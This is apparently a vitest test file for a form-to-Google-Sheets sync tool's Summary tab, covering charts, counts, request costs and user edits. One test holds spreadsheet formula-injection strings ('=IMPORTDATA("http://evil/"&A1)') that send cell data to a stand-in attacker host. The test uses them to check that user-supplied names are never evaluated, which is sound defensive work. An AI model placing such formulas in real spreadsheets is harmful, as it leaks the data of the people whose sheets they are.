import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FORM, field } from '../../../contract/target-harness.ts';
import { SheetMirror } from '../sheet-mirror.ts';
import { SleepersClock } from '../sheets-place.ts';
import { COLOUR, submission, SUBMISSIONS, SummaryPlace } from './summary-place.ts';

const OTHER = { id: 'frm_2', slug: 'second', name: 'Second form' };

describe('the Summary tab', () => {
  let sheet: SummaryPlace;
  beforeEach(async () => {
    sheet = await SummaryPlace.begin();
  });
  afterEach(() => sheet[Symbol.asyncDispose]());

  const charts = (): (string | null | undefined)[] =>
    sheet.place.sandbox.inspect
      .charts(sheet.place.spreadsheetId, 'Summary')
      .map(({ spec }) => spec?.title);
  const counts = () => sheet.place.sandbox.requests.counts();

  it('stands behind the forms and before the Mirror tab, with a chart of each form’s weeks', async () => {
    await sheet.pass(SUBMISSIONS);
    await sheet.pass([], { form: OTHER });
    expect(sheet.titles.filter((title) => !title.startsWith('Mirror '))).toEqual([
      'Sheet1',
      FORM.name,
      OTHER.name,
      'Summary',
      'Mirror',
    ]);
    expect([...sheet.forms().keys()]).toEqual([FORM.name, OTHER.name]);
    expect(charts()).toEqual([
      'Contact form: submissions a week',
      'Second form: submissions a week',
    ]);
    const { inspect } = sheet.place.sandbox;
    for (const { spec, position } of inspect.charts(sheet.place.spreadsheetId, 'Summary')) {
      const [range] = spec?.basicChart?.series?.[0]?.series?.sourceRange?.sources ?? [];
      const [first] = sheet.shown().slice(range?.startRowIndex ?? 0);
      expect(first?.[range?.startColumnIndex ?? 0]).toBe('Submissions');
      const top = position?.overlayPosition?.anchorCell?.rowIndex ?? 0;
      expect(spec?.title).toBe(`${sheet.shown()[top]?.[0]}: submissions a week`);
    }
    // Nothing came in yet: nought of everything, and no share of nothing.
    expect(sheet.form(OTHER.name).counts.slice(0, 3)).toEqual([
      ['Submissions', '0'],
      ['Status', 'Submissions'],
      ['NEW', '0'],
    ]);
    expect(
      sheet
        .shown()
        .flat()
        .filter((text) => text.startsWith('#')),
    ).toEqual([]);
  });

  it('comes with passes as sync runs them, and tells what it told after another one', async () => {
    await using mirror = await SheetMirror.begin(30);
    const { inspect } = mirror.place.sandbox;
    const shown = (): string[][] => inspect.shown(mirror.place.spreadsheetId, 'Summary');
    expect(shown()).toContainEqual(expect.arrayContaining(['Submissions', '30']));
    expect(shown()).toContainEqual(expect.arrayContaining(['DONE', '15', '50%', '██████████']));
    mirror.submit(30);
    await mirror.pass();
    expect(shown()).toContainEqual(expect.arrayContaining(['Submissions', '31']));
    expect(await mirror.verify()).toMatchObject({ outcome: 'same' });
  });

  it('costs a write and three reads where it changes, and nothing where it does not', async () => {
    await sheet.pass(SUBMISSIONS);
    sheet.place.sandbox.requests.clear();
    await sheet.pass(SUBMISSIONS);
    const unchanged = counts();
    expect(unchanged.writes).toBe(0);
    sheet.place.sandbox.requests.clear();
    await sheet.pass([...SUBMISSIONS, submission(50, { [COLOUR.id]: 'pink' })]);
    const oneMore = counts();
    await using plain = await SummaryPlace.begin({ summary: false });
    await plain.pass(SUBMISSIONS);
    await plain.pass(SUBMISSIONS);
    plain.place.sandbox.requests.clear();
    await plain.pass([...SUBMISSIONS, submission(50, { [COLOUR.id]: 'pink' })]);
    const without = plain.place.sandbox.requests.counts();
    expect(oneMore).toEqual({ reads: without.reads + 3, writes: without.writes + 1 });
    plain.place.sandbox.requests.clear();
    await plain.pass([...SUBMISSIONS, submission(50, { [COLOUR.id]: 'pink' })]);
    expect(unchanged).toEqual(plain.place.sandbox.requests.counts());
  });

  it('drops what people deleted: a form’s tab, and a column', async () => {
    await sheet.pass(SUBMISSIONS);
    await sheet.pass(SUBMISSIONS, { form: OTHER });
    sheet.person(FORM.name).deleteTab();
    expect(sheet.shown().flat()).toContain('#REF!');
    sheet.person(OTHER.name).deleteColumns(sheet.column('Colour', OTHER.name));
    sheet.person(OTHER.name).deleteColumns(sheet.column('Status', OTHER.name));
    await sheet.pass(SUBMISSIONS, { form: OTHER });
    expect([...sheet.forms().keys()]).toEqual([OTHER.name]);
    expect(charts()).toEqual(['Second form: submissions a week']);
    const labels = sheet.form(OTHER.name).counts.map(([label]) => label);
    expect(labels).not.toContain('NEW');
    expect(labels).not.toContain('red');
    expect(labels).toContain('Stars');
    expect(
      sheet
        .shown()
        .flat()
        .filter((text) => text.startsWith('#')),
    ).toEqual([]);
    // The tab that the mirror makes again has its numbers again.
    await sheet.pass(SUBMISSIONS);
    expect(sheet.count('Submissions')).toBe('30');
    expect(sheet.count('red')).toBe('10');
  });

  it('keeps a chart where people put it away, and how they framed the others', async () => {
    await sheet.pass(SUBMISSIONS);
    sheet.person('Summary').deleteCharts();
    await sheet.pass(SUBMISSIONS, { form: OTHER });
    expect(charts()).toEqual(['Second form: submissions a week']);
    await sheet.pass(SUBMISSIONS, { form: { ...OTHER, id: 'frm_3', name: 'Third' } });
    expect(charts()).toEqual(['Second form: submissions a week', 'Third: submissions a week']);
  });

  it('does not come back by itself, but after it was switched off and on', async () => {
    await sheet.pass(SUBMISSIONS);
    sheet.person('Summary').deleteTab();
    await sheet.pass(SUBMISSIONS);
    await sheet.pass(SUBMISSIONS, { form: OTHER });
    expect(sheet.titles).not.toContain('Summary');
    await sheet.restart(true);
    await sheet.pass(SUBMISSIONS);
    expect(sheet.titles).not.toContain('Summary');
    await sheet.restart(false);
    await sheet.pass(SUBMISSIONS);
    expect(sheet.titles).not.toContain('Summary');
    await sheet.restart(true);
    await sheet.pass(SUBMISSIONS);
    expect(sheet.count('red')).toBe('10');
  });

  it('is moved, renamed and hidden by people, and still kept', async () => {
    await sheet.pass(SUBMISSIONS);
    sheet.person('Summary').renameTab('Figures');
    sheet.person('Figures').hideTab();
    await sheet.pass(SUBMISSIONS, { form: OTHER });
    expect([...sheet.forms('Figures').keys()]).toEqual([FORM.name, OTHER.name]);
    expect(sheet.titles).not.toContain('Summary');
  });

  it('comes into a spreadsheet that is there already only when it is asked for', async () => {
    await using old = await SummaryPlace.begin({ summary: false });
    await old.pass(SUBMISSIONS);
    expect(old.titles).not.toContain('Summary');
    // Somebody's tool took away the note of what was planned.
    const { document } = old.place.sandbox.files.get(old.place.spreadsheetId);
    document.metadata = document.metadata.filter(({ key }) => key !== 'fm.summary');
    await old.restart();
    await old.pass(SUBMISSIONS);
    expect(old.titles).not.toContain('Summary');
    await old.restart(true);
    await old.pass(SUBMISSIONS);
    expect(old.form().counts[0]).toEqual(['Submissions', '30']);
  });

  it('leaves a tab of people’s own that is called so alone', async () => {
    sheet.person('Sheet1').renameTab('Summary');
    sheet.person('Summary').type(0, 0, 'ours');
    await sheet.pass(SUBMISSIONS);
    expect(sheet.shown('Summary')).toEqual([['ours']]);
    expect(sheet.form(FORM.name, 'Summary (2)').counts[0]).toEqual(['Submissions', '30']);
  });

  it('evaluates nothing that people called their forms and fields (L10)', async () => {
    const form = { ...FORM, name: '\'=IMPORTDATA("http://evil")&"' };
    const label = '=IMPORTDATA("http://evil/"&A1)';
    const rows = SUBMISSIONS.map((_, nth) => submission(nth, { [COLOUR.id]: '=1+1' }));
    await sheet.pass(rows, { form, fields: [{ ...COLOUR, label }] });
    const { inspect } = sheet.place.sandbox;
    expect(sheet.form(form.name).counts).toContainEqual([label, 'Submissions']);
    expect(sheet.form(form.name).counts).toContainEqual(['=1+1', '30']);
    const own = inspect.formulas(sheet.place.spreadsheetId, 'Summary');
    const [tab = ''] = sheet.titles.slice(1);
    const quoted = `'${tab.replaceAll("'", "''")}'!`;
    for (const { text } of own) expect(text.replaceAll(quoted, '')).not.toContain('evil');
    expect(inspect.types(sheet.place.spreadsheetId, 'Summary').flat()).not.toContain('error');
  });

  it('counts the questions of a form of 1,200 fields, of which two are choices', async () => {
    const fields = Array.from({ length: 1_200 }, (_, nth) =>
      field(`f${nth}`, `Question ${nth}`, { position: nth }),
    );
    const rows = SUBMISSIONS.map(({ id }, nth) => {
      const own = Object.fromEntries(fields.map((one) => [one.id, `${one.id} ${nth}`]));
      return submission(nth, { ...own, f7: 'yes', f250: ['a', 'b'][nth % 2] ?? null }, { id });
    });
    await sheet.pass(rows, { fields });
    expect(sheet.count('yes')).toBe('30');
    expect(sheet.count('a')).toBe('15');
  });

  it('holds up no pass where Google refuses it, and is not sent again as it was', async () => {
    await sheet.pass(SUBMISSIONS);
    sheet.person('Summary').protect({ top: 0, bottom: 3 });
    await sheet.pass(SUBMISSIONS, { form: OTHER });
    expect((await sheet.target.overview()).map(({ lastOk }) => lastOk !== null)).toEqual([
      true,
      true,
    ]);
    sheet.place.sandbox.requests.clear();
    await sheet.pass(SUBMISSIONS, { form: OTHER });
    expect(counts().writes).toBe(0);
    expect([...sheet.forms().keys()]).toEqual([FORM.name]);
  });

  it('is tried again, once, where Google refuses a write for a reason that nobody knows', async () => {
    await sheet.pass(SUBMISSIONS);
    sheet.place.sandbox.requests.clear();
    await sheet.pass([], { form: OTHER });
    // The last write of such a pass is that of the Summary tab.
    const after = counts().writes - 1;
    const message = 'Invalid requests[3].repeatCell: not now';
    const body = JSON.stringify({ error: { code: 400, message, status: 'INVALID_ARGUMENT' } });
    const { faults } = sheet.place.sandbox;
    faults.add({ path: /:batchUpdate$/, status: 400, body, after, times: 1 });
    await sheet.pass([], { form: { ...OTHER, id: 'frm_3', name: 'Third' } });
    expect(faults.tally().at(-1)?.hit).toBe(1);
    expect([...sheet.forms().keys()]).toContain('Third');
  });
});

/** Time passes for sleepers alone, and people act whenever one of them goes to sleep: before each call. */
class BusyClock extends SleepersClock {
  onSleep: () => void = () => {};
  override async sleep(ms: number, signal?: AbortSignal): Promise<void> {
    this.onSleep();
    await super.sleep(ms, signal);
  }
}

describe('the Summary tab, while people rearrange the others', () => {
  const deeds: Record<string, (sheet: SummaryPlace) => void> = {
    'move a column and rename the tab': (sheet) => {
      sheet.person(FORM.name).moveColumns(sheet.column('Colour'), 1, 0);
      sheet.person(FORM.name).renameTab('Elsewhere');
    },
    'put a title above the headers': (sheet) => sheet.person(FORM.name).insertTitleRow(0, 'Ours'),
  };
  const moments = Array.from({ length: 12 }, (_, at) => at);

  it.each(Object.keys(deeds).flatMap((deed) => moments.map((at) => [deed, at] as const)))(
    'counts the right cells when they %s before call %i',
    async (deed, at) => {
      const clock = new BusyClock('2026-03-04T08:00:00.000Z');
      const quota = { perSpreadsheetMs: 1, perMinute: Number.POSITIVE_INFINITY };
      await using sheet = await SummaryPlace.begin({ quota }, clock);
      await using quiet = await SummaryPlace.begin();
      await quiet.pass(SUBMISSIONS);
      let calls = 0;
      clock.onSleep = () => {
        if (calls++ === at && sheet.titles.includes(FORM.name) && sheet.hasRows)
          deeds[deed]?.(sheet);
      };
      await sheet.pass(SUBMISSIONS);
      clock.onSleep = () => {};
      await sheet.pass(SUBMISSIONS);
      expect(sheet.form()).toEqual(quiet.form());
    },
  );
});
